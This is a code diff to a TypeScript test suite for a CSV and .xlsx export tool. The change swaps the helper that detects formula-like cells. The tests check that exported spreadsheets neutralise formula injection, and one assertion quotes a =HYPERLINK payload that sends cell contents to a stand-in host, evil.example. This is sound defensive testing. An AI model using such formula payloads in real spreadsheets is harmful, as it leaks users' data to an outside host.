@@ -13,8 +13,7 @@ import { join, relative } from 'node:path';
 import ExcelJS from 'exceljs';
 import { CsvError, SEPARATOR, readCsv, writeCsv } from '../../scripts/tableur/csv.ts';
 import { buildWorkbook, exportCsv, loadContent } from '../../scripts/tableur/classeur.ts';
-import { isFormulaStart } from '../../src/lib/csv.ts';
-import { PAYLOADS, formulaCells } from '../csv-payloads.ts';
+import { PAYLOADS, formulaCells, looksLikeFormula } from '../csv-payloads.ts';
 import { formatImportProblem, formatSummary, importCsv, type SheetProblem } from '../../scripts/tableur/import.ts';
 
 const INSERM = 'inserm-fiphfp-2023-2026';
@@ -262,7 +261,7 @@ test('formula-safe: no cell of the exported CSV starts like a formula, and impor
   const { files } = exportCsv(join(dir, 'csv'), dir, 'content', INSERM);
   const text = readFileSync(files[0]!, 'utf8');
   // The content is hostile (else this test proves nothing); the file is not.
-  assert.ok(readCsv(readFileSync(files[0]!)).flat().filter(isFormulaStart).length >= 5);
+  assert.ok(readCsv(readFileSync(files[0]!)).flat().filter(looksLikeFormula).length >= 5);
   assert.deepEqual(formulaCells(text, SEPARATOR), []);
   assert.ok(text.includes(`;"'-${ROUND}";`), 'en-tête protégé');
   assert.ok(text.includes(`;"'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")";`));
@@ -300,7 +299,7 @@ test('the .xlsx export keeps every such value as text: no cell becomes a formula
   await reread.xlsx.load(await workbook.xlsx.writeBuffer());
   const cells: ExcelJS.Cell[] = [];
   reread.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
-  const formulaLike = cells.filter((cell) => typeof cell.value === 'string' && isFormulaStart(cell.value));
+  const formulaLike = cells.filter((cell) => typeof cell.value === 'string' && looksLikeFormula(cell.value));
   assert.ok(formulaLike.length >= 5, 'jeu d’essai sans formule');
   assert.deepEqual(
     cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined).map((cell) => cell.address),
